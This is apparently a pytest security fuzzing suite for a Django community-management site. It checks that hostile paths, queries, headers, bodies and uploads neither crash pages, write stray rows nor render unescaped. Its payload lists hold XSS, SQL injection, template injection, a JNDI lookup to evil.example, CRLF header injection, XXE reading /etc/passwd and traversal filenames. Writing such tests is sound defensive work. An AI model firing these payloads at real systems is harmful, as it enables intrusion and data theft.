"""Whatever arrives — in the path, the query, the head, the body — nothing breaks, nothing is half written, and what
is shown again is shown as words. Made from the resolver, so that a new address is covered the day it is added."""

import re
from itertools import product
from urllib.parse import parse_qsl, unquote_to_bytes, urlsplit

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DataError, IntegrityError, connection, models, transaction
from django.urls import get_resolver

from tests.conftest import WRITES, _NoWrites
from tests.doors import TABLES, TRAIL, Door, check, counts, new_client, ordinary, own_forms
from tests.test_access import READERS, rows
from tests.test_house import all_views

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(1)><!--"
LONG, ENDLESS = "张" * 10_000, "9" * 60
# 每一种来路有几种写法。一个地址每一种试一个写法，各地址轮着来：几百个地址下来，每个写法都试过许多遍。
KINDS = [
    # 在别处有意思的话：网页、模板、日志、表格、查询、路径
    [SCRIPT, "{{ settings.SECRET_KEY }}{% debug %}", "' OR 1=1 --", BREAKOUT, '=HYPERLINK("http://evil.example")']
    + ["${jndi:ldap://evil.example/a}", "1); DROP TABLE members_member; --", "%' ESCAPE '", "../../../etc/passwd"],
    ["\x00", "王\x00伟"],
    [LONG],
    ["²", "١٢٣", "１２３"],
    ["😀👨‍👩‍👧", "\u202e反过来\u200b"],
    ["a\r\nSet-Cookie: evil=1", "javascript:alert(1)", "//evil.example/", "https://evil.example/"],
    ["[]", "-1", "0", "1.5", "null"],
    [ENDLESS, "1e309", "9223372036854775808", "NaN", "2147483648", "9223372036854775807"],
    ["2026-02-30", "99999-12-31", "2026-13-01", "2100年12月31日", "0000-00-00", "9999-12-31", "30月2日", "1900-01-01"],
    ["~", "2026-02-30~1", "~~1", f"1~{'9' * 30}", "x~1", f"2026-01-01~{'9' * 17}", "\x00~1", "9999-12-31~1", "~²"],
]
# 一项一项单独试的：别的都照常填，这一项收下了就真的写进去。
WORDS = [
    [f"{SCRIPT}{BREAKOUT}😀👨‍👩‍👧\u202e反过来\u200b²\r\nSet-Cookie: evil=1", "²"],
    ["王\x00伟"],
    [LONG],
    [ENDLESS],
]
KEYS = [["\x00"], ["-1", "2026-02-30", "²"], ["9223372036854775808", ENDLESS], ["x~1", "//evil.example/"]]
CHOICES = [[SCRIPT, "²"], ["\x00"], [ENDLESS]]  # 只能从列出的里选的，错法不多
# 换一种数据库，答案会不同的只有这几样：存不进的字、太长的字、太大的数。
MINDED_BY_A_DATABASE = {"王\x00伟", "\x00", LONG, ENDLESS, "9223372036854775808"}
TAKEN_BY_SQLITE = {"王\x00伟", "\x00", LONG}  # 单独交给 PostgreSQL 试；在 SQLite 上同别的一起试
# 网址里该是编号的地方。
IDS = ["0", "9223372036854775808", "9" * 100]
NO_IDS = ["-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "%F0%9F%98%80", "%FF"]
# 各页之外，程序里认的查询参数。
KNOWN_PARAMETERS = ("after", "before", "next", "q", "tab", "view", "year", "community", "done", "what", "role", "model")
FIRST_DATABASE = connection.vendor == "sqlite"
PATTERNS = {name: pattern for name, pattern, _ in all_views(get_resolver().url_patterns)}


class Written:
    """The tables that the statements run inside wrote to."""

    def __init__(self):
        self.tables = set()

    def __call__(self, execute, sql, params, many, context):
        if found := WRITES.match(sql):
            self.tables.add(found.group(1).lower())
        return execute(sql, params, many, context)


def undone(act):
    """The value of `act()`; what it wrote is taken back."""
    with transaction.atomic():
        value = act()
        transaction.set_rollback(True)
    return value


def read(client, url, data=None, **extra):
    """A GET during which nothing may be written but the session's clock."""
    with connection.execute_wrapper(_NoWrites()):
        return client.get(url, data, **extra)


def opened(method):
    """Test the rows of the table with that method, as `door`."""
    chosen = [row for row in rows() if row[1] == method]
    return pytest.mark.parametrize("row", chosen, ids=[f"{row[0]}-{row[2]}" for row in chosen])


@pytest.fixture
def door(place, row):
    return Door(place, *row)


# What is refused before a row is read, or read as any page is: the same on every database, so asked on one only.
on_any_database = pytest.mark.any_database

# ── Paths and methods ──


# 乱猜登录条要留痕、会锁住来源地址，见 tests/accounts/test_slips.py。
GUESSED = {"slip"}


@pytest.mark.parametrize(
    "name", sorted(name for name, pattern in PATTERNS.items() if "<" in pattern and name not in GUESSED)
)
def test_paths_that_name_nothing(place, name):
    clients = [new_client(place, reader) for reader in ("社区书记", "系统管理员", "没有登录")]
    before = counts()
    asked = [*product(IDS, clients, ("GET", "POST"))]
    if not FIRST_DATABASE:  # 只问数据库会在意的编号
        asked = [*product(IDS[1:], clients[:1], ("GET", "POST"))]
    elif "<key:" in PATTERNS[name]:  # 不是编号的走不到页面，轮着问一遍就够
        asked += [(wrong, clients[at % 3], ("GET", "POST")[at % 2]) for at, wrong in enumerate(NO_IDS)]
    else:
        asked += product(NO_IDS, clients, ("GET", "POST"))
    for number, client, method in asked:
        path = "/" + re.sub(r"<\w+:\w+>", number, PATTERNS[name])
        said = f"{method} {path[:80]}"
        response = client.generic(method, path)
        check(response, name, said)
        assert response.status_code in (302, 400, 403, 404, 405), f"{said}：{response.status_code}"
        if response.status_code == 302:
            assert response["Location"].startswith("/login/"), said
    assert counts() == before


@pytest.mark.parametrize(
    "path",
    ["/x", "//evil.example/", "/%2e%2e/etc/passwd", "/%00", "/%FF%FE", "/😀/", "/people/%0d%0aSet-Cookie:evil=1/"]
    + ["/.git/config", "/static/../config/settings.py", "/static/%2e%2e/config/settings.py", "/admin/", "/people//"]
    + ["/" + "a" * 5000],
)
@pytest.mark.parametrize("reader", ["社区书记", "没有登录"])
@on_any_database
def test_paths_of_no_page(place, path, reader):
    response = new_client(place, reader).get("/", PATH_INFO=unquote_to_bytes(path).decode("latin-1"))
    check(response, "", path[:80])
    assert response.status_code in (301, 302, 400, 404), path[:80]


@opened("GET")
@on_any_database
def test_methods_the_address_does_not_know(door):
    client = door.client()
    before = counts()
    for method in door.one_of_each([["PUT", "PATCH", "DELETE"], ["TRACE", "OPTIONS"], ["PROPFIND", "X" * 40]]):
        assert client.generic(method, door.full).status_code in (403, 405), method
    got, headed = client.get(door.full), client.head(door.full)
    check(got, door.name, "GET")
    check(headed, door.name, "HEAD")
    assert headed.status_code in (got.status_code, 405)
    assert counts() == before


@opened("POST")
@on_any_database
def test_a_form_from_elsewhere_is_refused(door):
    before = counts()
    response = door.client(enforce_csrf_checks=True).post(door.full, {"text": "写了很久的一段话，不该丢"})
    page = check(response, door.name, "没有令牌")
    assert response.status_code == 403
    assert page is not None
    assert counts() == before


# ── Queries ──


def parameters(door):
    """{name: its field} of every query the page's own forms and links use."""
    page, key = door.page(), {"type": "hidden"}
    names = dict.fromkeys(door.query, key)
    for link in page.links if page else []:
        if urlsplit(link).path in ("", door.url):
            names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), key)
    for form in page.forms if page else []:
        if form["method"] == "get" and form["action"] in ("", door.url):
            names |= {each["name"]: each for each in form["fields"]}
    return names


def alone(door, field):
    """Payloads to be tried alone in the field: each on the database that could mind it, the others on the first."""
    payloads = door.one_of_each(kinds_for(field))
    if FIRST_DATABASE:
        return [each for each in payloads if each not in TAKEN_BY_SQLITE]
    return [each for each in payloads if each in MINDED_BY_A_DATABASE]


def kinds_for(field):
    if field["type"] in ("select", "radio", "checkbox"):
        return CHOICES
    return KEYS if field["type"] == "hidden" else WORDS


def rotated(names, payloads):
    """As many data as there are payloads, in which every name once has each of them."""
    for turn in range(len(payloads) if names else 0):
        yield {name: payloads[(turn + at) % len(payloads)] for at, name in enumerate(names)}


@opened("GET")
def test_hostile_queries(door):
    client = door.client()
    for name, field in parameters(door).items():
        for payload in alone(door, field):
            said = f"{door.url}?{name}={payload[:40]!r}"
            check(read(client, door.url, door.query | {name: payload}), door.name, said)


@opened("GET")
@on_any_database
def test_hostile_queries_together(door):
    client = door.client()
    names, payloads = parameters(door), door.one_of_each(KINDS)
    for data in rotated([*names, *KNOWN_PARAMETERS] if names else (), payloads):
        check(read(client, door.url, data), door.name, f"{door.url} {str(data)[:300]}")
    for payload in door.one_of_each(CHOICES):
        said = f"{door.url} 各参数都是 {payload[:40]!r}"
        check(read(client, door.url, dict.fromkeys(KNOWN_PARAMETERS, payload) | door.query), door.name, said)


@opened("GET")
@on_any_database
def test_queries_that_are_no_queries(door):
    client = door.client()
    for text in ("%&%FF=%FE&q[]=1&q[$ne]=x&a=1;b=2", "q=%00&q=1&q=&&&&=&" + "=" * 500, "after=1~1&after=~&after"):
        check(read(client, f"{door.url}?{text}"), door.name, text[:40])
    many = "&".join(f"a{number}=1" for number in range(5000))
    check(read(client, f"{door.url}?{many}"), door.name, "五千个参数")


# ── Heads ──

HEADS = [
    [{"HTTP_HOST": host} for host in ("evil.example", "evil.example:99999", "<script>", "a\x00b", "")],
    [
        {
            "HTTP_X_FORWARDED_HOST": "evil.example",
            "HTTP_X_FORWARDED_PROTO": "gopher",
            "HTTP_X_FORWARDED_FOR": "x, 999.1",
        },
        {"REMOTE_ADDR": "no address"},
    ],
    [
        {"HTTP_ACCEPT_LANGUAGE": "xx-" + "y" * 5000 + ";q=abc,\x00"},
        {
            "HTTP_ACCEPT": "\x00",
            "HTTP_ACCEPT_ENCODING": "x" * 5000,
            "HTTP_IF_MODIFIED_SINCE": "²",
            "HTTP_RANGE": "bytes=9-1",
        },
    ],
    [
        {"HTTP_REFERER": referer}
        for referer in ("http://[::1", SCRIPT, "http://testserver/" + "张" * 3000, "javascript:alert(1)")
    ],
    [{"HTTP_REFERER": "http://testserver/people/?q=王伟"}],
    [
        {"HTTP_COOKIE": "session=" + "a" * 8000},
        {"HTTP_COOKIE": 'session=\x00; csrf=²; text_size=<script>; messages=[["x"; =; ;;'},
        {"HTTP_COOKIE": "session=../../etc/passwd; text_size=" + "xl" * 500},
    ],
    [{"QUERY_STRING": "\xff\xfe%"}],
]


@opened("GET")
@on_any_database
def test_hostile_heads(door):
    """Heads are read before the page is: one comes from the door's reader, the next from nobody signed in, and the
    other way round at the next address."""
    for at, head in enumerate(door.one_of_each(HEADS), door.number):
        reader = (door.reader, "没有登录")[at % 2]
        said = f"{door.name} {reader} {str(head)[:60]}"
        response = new_client(door.place, reader).get(door.full, **head)
        check(response, door.name, said)
        assert response.status_code in (200, 302, 400, 403, 404, 503), said


# ── Bodies ──


def send(door, data, said, **extra):
    """Post it: refused means that no row was added or taken away. What was written is undone."""

    client = door.same_client()

    def act():
        written = Written()
        with connection.execute_wrapper(written):
            response = client.post(door.full, data, **extra)
        check(response, door.name, said)
        refused = response.status_code >= 400 or (not response.streaming and b'id="errors"' in response.content)
        if refused:
            now = counts(written.tables & TABLES)
            changed = {table for table, count in now.items() if count != door.before[table]}
            # 记下被拒绝的登录，是规矩本身。
            assert changed <= (TRAIL if door.name in ("login", "password_change") else set()), said
        return response

    return undone(act)


@opened("POST")
def test_hostile_fields(door):
    for form in own_forms(door):
        base = ordinary(form)
        send(door, base, f"{door.name} 照常填写")
        for each in one_of_a_kind(form["fields"]):
            if each["name"] in base:
                send_alone(door, base, each)
        for data in rotated(base, door.one_of_each(KINDS)) if FIRST_DATABASE else ():
            send(door, data, f"{door.name} {str(data)[:300]}")


def send_alone(door, base, field):
    """Everything as usual but for this field."""
    name, said = field["name"], f"{door.name} 的 {field['name']}"
    for payload in alone(door, field):
        send(door, base | {name: payload}, f"{said}={payload[:40]!r}")
    if FIRST_DATABASE:
        send(door, {k: v for k, v in base.items() if k != name}, f"{said} 没有送来")
        send(door, base | {name: ["a", "b", SCRIPT]}, f"{said} 有三个")


def one_of_a_kind(fields):
    """The fields, of those that differ in a number only (the marks of thirty people) the first."""
    return {re.sub(r"[0-9]+", "#", each["name"]): each for each in reversed(fields)}.values()


FORM = "application/x-www-form-urlencoded"
FILE = b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../a.xlsx"\r\n\r\n'
BODIES = [
    [
        ("application/json", b'{"a": [1, 2'),
        ("text/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
        ("", b"\x00" * 100),
    ],
    [(FORM, b"\xff\xfe%zz&&=&a=%00"), (f"{FORM}; charset=no-such", b"a=1")],
    [
        ("multipart/form-data", b"no boundary"),
        ("multipart/form-data; boundary=x", FILE),
        ("multipart/form-data; boundary=\xff", b"--x--"),
    ],
    [(FORM, b"&".join(b"a%d=1" % n for n in range(2500)))],
    [(FORM, b"text=" + b"a" * 3_000_000)],
]


@opened("POST")
@on_any_database
def test_bodies_that_are_no_forms(door):
    before = counts()
    for kind, body in door.one_of_each(BODIES):
        said = f"{door.name} {kind} {body[:20]!r}"
        client = door.client()
        response = undone(lambda c=client, b=body, k=kind: c.generic("POST", door.full, b, content_type=k))
        check(response, door.name, said)
    assert counts() == before


UPLOADS = {
    "空.xlsx": b"",
    "名册.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "名册.xlsx": b"PK\x03\x04" + b"\x00" * 200,
    "../../../名册.xlsx": b"PK\x05\x06" + b"\x00" * 18,
    "名\x00册.xlsx": b"<html>",
    "张" * 300 + ".xlsx": b"a,b,c",
    "脚本.exe": b"MZ",
}


@pytest.mark.parametrize("file_name", UPLOADS, ids=lambda name: name[:12].replace("\x00", "0"))
def test_hostile_uploads(place, file_name):
    door = Door(place, *next(row for row in rows() if row[:2] == ("roster_import", "POST")))
    door.reader = "社区书记"  # 只管一个社区，不用先选
    response = send(door, {"file": SimpleUploadedFile(file_name, UPLOADS[file_name])}, file_name[:12])
    assert response.status_code == 200
    assert b'id="errors"' in response.content


# ── What is stored ──


NO_WORDS = ("password", "id_sealed")  # 密文，写不进字
CODES = ("ImportBatch.kind", "ImportAnswer.kind", "VenueDetail.item")  # 代码里的键，不是谁写的字


def poison():
    """Hostile words in every free text of every row, as far as the column takes them; the columns that took them."""
    poisoned = set()
    for model in apps.get_models():
        if model._meta.app_label in ("sessions", "contenttypes", "auth", "axes", "audit"):
            continue
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, (models.CharField, models.TextField))
            if f"{model.__name__}.{field.name}" in CODES:
                continue
            if is_text and not (field.choices or field.unique or field.name in NO_WORDS):
                room = (field.max_length or 1000) - 8
                words = next(w for w in (SCRIPT, BREAKOUT, "<i>", "") if len(w) <= room or not w)
                if words and put(model, field, words):
                    poisoned.add(f"{model.__name__}.{field.name}")
    return poisoned


def put(model, field, words):
    """Write the words and the row's number into the column of every row, past all deeds; False where the database
    refuses it."""
    table, column, key = model._meta.db_table, field.column, model._meta.pk.column
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(f'UPDATE {table} SET "{column}" = %s || CAST("{key}" AS varchar(8))', [words])
            return cursor.rowcount > 0
    except (IntegrityError, DataError):
        return False


@on_any_database
def test_what_is_stored_is_shown_as_words(place):
    doors = [Door(place, *row) for row in rows() if row[1] == "GET"]
    marks = {(row[0], row[2]): row[3] for row in rows() if row[1] == "GET"}
    poisoned = poison()
    assert {"Person.name", "Compound.name", "Meeting.title", "Decision.text", "User.name"} <= poisoned
    shown = set()
    for door in doors:
        readers = [reader for reader, mark in zip(READERS, marks[door.name, door.target], strict=True) if mark == "2"]
        for reader in readers if door.name == "home" else {*readers[:1], *readers[-1:]}:  # 看得最多的和看得最少的
            response = new_client(place, reader).get(door.full, {"q": "<"} if door.name == "find" else None)
            page = check(response, door.name, f"{door.name}，读者 {reader}")
            if page and b"&lt;script&gt;" in response.content:
                shown.add(door.name)
    assert {"home", "compound", "branch", "committee", "meeting", "person", "members", "find", "materials"} <= shown
